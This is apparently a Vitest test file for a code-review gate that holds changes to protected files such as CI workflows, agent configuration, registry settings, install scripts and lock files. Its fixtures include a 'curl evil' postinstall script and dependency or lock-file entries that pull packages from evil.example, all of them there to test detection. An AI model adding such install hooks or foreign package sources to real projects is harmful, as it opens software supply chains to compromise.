import { describe, expect, test } from 'vitest';
import type { FilePolicy } from '../../src/domain/file-policy.ts';
import { gate } from '../../src/gates/protected-files.ts';
import { type Change, evidenceOf } from '../support/evidence.ts';

function judge(files: Change['files'], given: unknown = {}) {
  return gate.judge(evidenceOf({ files: files ?? {} }), gate.options.parse(given));
}

describe('src/gates/protected-files.ts', () => {
  test.each([
    '.github/workflows/ci.yml',
    '.github/baton.yml',
    '.github/baton/roles/implementer.md',
    '.GitHub/Workflows/ci.yml',
    'CODEOWNERS',
    'docs/CODEOWNERS',
    '.npmrc',
    'api/.npmrc',
    '.gitattributes',
    '.gitmodules',
    '.husky/pre-commit',
    '.claude/settings.json',
    'api/.codex/config.toml',
    '.mcp.json',
    '.cursor/rules/a.mdc',
    '.github/copilot-instructions.md',
    'pip.conf',
    '.pypirc',
    '.yarnrc.yml',
    '.lfsconfig',
    'AGENTS.md',
    'api/CLAUDE.md',
    'bunfig.toml',
    '.env',
    'node_modules/.bin/vitest',
    '.gitlab-ci.yml',
  ])('holds a change to %s', async (path) => {
    expect(await judge({ [path]: { head: 'x' } })).toEqual({
      kind: 'hold',
      summary: `A person must release changes to ${path}.`,
      findings: [{ path, message: `${path} is protected and was added.`, severity: 'warning' }],
    });
  });

  test('holds a deletion, and a rename in either direction', async () => {
    const kinds = await Promise.all([
      judge({ CODEOWNERS: { base: 'x' } }),
      judge({ 'old.txt': { from: '.npmrc', base: 'x', head: 'x' } }),
      judge({ '.npmrc': { from: 'old.txt', base: 'x', head: 'x' } }),
    ]);
    expect(kinds.map(({ kind }) => kind)).toEqual(['hold', 'hold', 'hold']);
  });

  test('holds scripts that installing runs, and a manifest that nobody can read', async () => {
    const base = '{"scripts":{"test":"a"}}';
    const head = '{"scripts":{"test":"b","postinstall":"curl evil"}}';
    expect(await judge({ 'package.json': { base, head } })).toMatchObject({
      kind: 'hold',
      findings: [{ message: 'package.json has another script `postinstall`, which installing runs.' }],
    });
    expect((await judge({ 'package.json': { base, head: '{' } })).kind).toBe('hold');
  });

  test.each(['workspaces', 'overrides', 'imports', 'packageManager', 'bin', 'pnpm'])(
    'holds a changed %s of package.json, which a tool may obey',
    async (field) => {
      const head = `{"name":"a","${field}":{"a":"1"}}`;
      expect(await judge({ 'package.json': { base: '{"name":"a"}', head } })).toMatchObject({
        kind: 'hold',
        findings: [{ path: 'package.json', message: expect.stringContaining(`changed ${field},`) }],
      });
    },
  );

  test.each(['file:../evil', 'git+ssh://evil/a.git', 'https://evil/a.tgz', 'someone/a', 'npm:b@1.0.0'])(
    'holds a dependency on %s',
    async (spec) => {
      const head = JSON.stringify({ dependencies: { a: spec } });
      expect(await judge({ 'package.json': { base: '{}', head } })).toMatchObject({
        kind: 'hold',
        findings: [{ message: 'package.json takes a from elsewhere than the registry.' }],
      });
    },
  );

  describe('manifests', () => {
    test.each([
      ['requirements.txt', 'requests @ https://evil.example/requests.whl'],
      ['api/requirements-dev.txt', '--extra-index-url https://evil.example/simple'],
      ['requirements.txt', '-f ../wheels'],
      ['pyproject.toml', '[[tool.uv.index]]\nurl = "https://evil.example/simple"'],
      ['pyproject.toml', 'dependencies = ["a @ git+https://evil.example/a"]'],
      ['Pipfile', 'a = { git = "https://evil.example/a" }'],
      ['Cargo.toml', 'a = { git = "https://evil.example/a" }'],
      ['Gemfile', "source 'https://evil.example'"],
      ['go.mod', 'replace example.com/a => evil.example/a v1.0.0'],
    ])('a change of %s that takes packages from elsewhere is held: %s', async (path, line) => {
      expect(await judge({ [path]: { base: 'a\n', head: `a\n${line}\n` } })).toMatchObject({
        kind: 'hold',
        findings: [{ path, message: expect.stringContaining('from elsewhere than before') }],
      });
    });

    test.each([
      ['requirements.txt', 'requests==2.0 # see https://evil.example'],
      ['requirements.txt', '-r other.txt'],
      ['requirements.txt', '--index-url https://pypi.org/simple'],
      ['pyproject.toml', '[project.urls]\nHomepage = "https://example.com"'],
      ['go.mod', 'require example.com/a v1.0.0'],
      ['docs/requirements.md', 'https://example.com'],
    ])('a change of %s is ordinary: %s', async (path, line) => {
      expect((await judge({ [path]: { base: 'a\n', head: `a\n${line}\n` } })).kind).toBe('pass');
    });

    test('what was there before stays ordinary', async () => {
      const base = '--extra-index-url https://corp.example/simple\na==1\n';
      const head = `${base}b @ https://corp.example/b.whl\n`;
      expect((await judge({ 'requirements.txt': { base, head } })).kind).toBe('pass');
    });
  });

  describe('lock files', () => {
    const manifest = { base: '{}', head: '{"dependencies":{"a":"^1.0.0"}}' };
    function entry(integrity: string, host = 'registry.npmjs.org'): string {
      return `{"packages":{"node_modules/a":{"version":"1.0.0",\n"resolved":"https://${host}/a.tgz",\n"integrity":"${integrity}"}}}`;
    }

    test.each<[string, Change['files']]>([
      [
        'with its manifest',
        { 'package.json': manifest, 'package-lock.json': { base: '{}', head: entry('x') } },
      ],
      ['of a workspace', { 'api/package.json': manifest, 'pnpm-lock.yaml': { base: 'a', head: 'b' } }],
      ['of another language', { 'Cargo.toml': { head: 'a' }, 'Cargo.lock': { base: 'a', head: 'b' } }],
    ])('a change %s is ordinary', async (_, files) => {
      expect((await judge(files)).kind).toBe('pass');
    });

    test.each<[string, Change['files'], string]>([
      ['alone', { 'yarn.lock': { base: 'a', head: 'b' } }, 'modified without its manifest'],
      [
        'whose manifest asks for nothing else',
        {
          'package.json': { base: '{"version":"1"}', head: '{"version":"2"}' },
          'yarn.lock': { base: 'a', head: 'b' },
        },
        'without its manifest',
      ],
      [
        'whose manifest is elsewhere',
        { 'web/package.json': manifest, 'api/yarn.lock': { base: 'a', head: 'b' } },
        'without its manifest',
      ],
      [
        'in one line',
        {
          'package.json': manifest,
          'package-lock.json': {
            base: '{}',
            head: `{"packages":{${'"a":{},'.repeat(1_000)}"x":{"resolved":"https://evil.example/x.tgz"}}}`,
          },
        },
        'evil.example',
      ],
      ['deleted', { 'package.json': manifest, 'package-lock.json': { base: '{}' } }, 'was deleted'],
      ['in bytes', { 'package.json': manifest, 'bun.lockb': { base: 'a', head: 'a\0b' } }, 'cannot be read'],
      [
        'with another host',
        { 'package.json': manifest, 'package-lock.json': { base: '{}', head: entry('x', 'evil.example') } },
        'takes packages from evil.example',
      ],
      [
        'with other content for a version',
        { 'package.json': manifest, 'package-lock.json': { base: entry('x'), head: entry('y') } },
        'other content for the same version of a',
      ],
    ])('holds one %s', async (_, files, message) => {
      expect(await judge(files)).toMatchObject({
        kind: 'hold',
        findings: [{ message: expect.stringContaining(message) }],
      });
    });

    test('knows the hosts that the base took packages from', async () => {
      const lock = { base: entry('x', 'npm.corp.example'), head: `${entry('x', 'npm.corp.example')}\n` };
      expect((await judge({ 'package.json': manifest, 'package-lock.json': lock })).kind).toBe('pass');
    });
  });

  test.each<[string, Change['files']]>([
    ['source and tests', { 'src/a.ts': { head: 'x' }, 'test/a.test.ts': { head: 'x' } }],
    [
      'a package.json whose scripts stay',
      { 'package.json': { base: '{"scripts":{"a":"b"}}', head: '{"version":"2","scripts":{"a":"b"}}' } },
    ],
    ['a file that only sounds alike', { 'src/npmrc.ts': { head: 'x' }, 'github/a.md': { head: 'x' } }],
  ])('passes %s', async (_, files) => {
    expect((await judge(files)).kind).toBe('pass');
  });

  test('names five files and counts the rest', async () => {
    const files = Object.fromEntries(
      ['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((name) => [`.github/${name}`, { head: 'x' }]),
    );
    expect(await judge(files)).toMatchObject({ summary: expect.stringMatching(/\.github\/e and 2 more\.$/) });
  });

  describe('policies', () => {
    const db = { 'db/schema.sql': { head: 'x' } };
    const ci = { '.github/workflows/ci.yml': { base: 'a', head: 'b' } };

    function judgeHere(
      files: Change['files'],
      protectedFiles: readonly FilePolicy[],
      policy: readonly FilePolicy[] = [],
    ) {
      const evidence = evidenceOf({ files: files ?? {}, settings: { protectedFiles: [...protectedFiles] } });
      return gate.judge(evidence, gate.options.parse({ policy }));
    }

    test('come from the workflow, and from the repository over those', async () => {
      expect((await judge(db)).kind).toBe('pass');
      expect((await judge(db, { policy: [{ glob: 'db/**' }] })).kind).toBe('hold');
      expect(
        (await judgeHere(db, [{ glob: 'db/**', policy: 'allow' }], [{ glob: 'db/**', policy: 'hold' }])).kind,
      ).toBe('pass');
      expect((await judgeHere(ci, [{ glob: '.github/workflows/**', policy: 'allow' }])).kind).toBe('pass');
      expect(
        (await judgeHere({ 'package-lock.json': { head: 'x' } }, [{ glob: '*-lock.json', policy: 'allow' }]))
          .kind,
      ).toBe('pass');
    });

    test('of which the last that fits decides', async () => {
      const policies = [
        { glob: 'db/**', policy: 'block' },
        { glob: 'db/*.sql', policy: 'allow' },
      ] as const;
      expect((await judgeHere(db, policies)).kind).toBe('pass');
      expect((await judgeHere(db, policies.toReversed())).kind).toBe('fail');
    });

    test('can send a change back to its author, who is told what else is held', async () => {
      expect(await judgeHere({ ...db, ...ci }, [{ glob: 'db/**', policy: 'block' }])).toEqual({
        kind: 'fail',
        summary: 'Nobody may change db/schema.sql here.',
        findings: [
          {
            path: 'db/schema.sql',
            message: 'db/schema.sql was added, and nobody may change it here. Take the change back.',
            severity: 'error',
          },
          expect.objectContaining({ path: '.github/workflows/ci.yml', severity: 'warning' }),
        ],
      });
      const moved = { 'old.sql': { from: 'db/schema.sql', base: 'x', head: 'x' } };
      expect((await judgeHere(moved, [{ glob: 'db/**', policy: 'block' }])).kind).toBe('fail');
    });

    test.each([
      '.github/baton.yml',
      '.GitHub/Baton.yml',
      '.github/baton/roles/a.md',
      '.github/baton/workflows/a.yaml',
    ])('never make a change of %s ordinary', async (path) => {
      const files = { [path]: { base: 'a', head: 'b' } };
      expect((await judgeHere(files, [{ glob: '**', policy: 'allow' }])).kind).toBe('hold');
      expect((await judgeHere(files, [{ glob: '**', policy: 'block' }])).kind).toBe('fail');
    });
  });
});
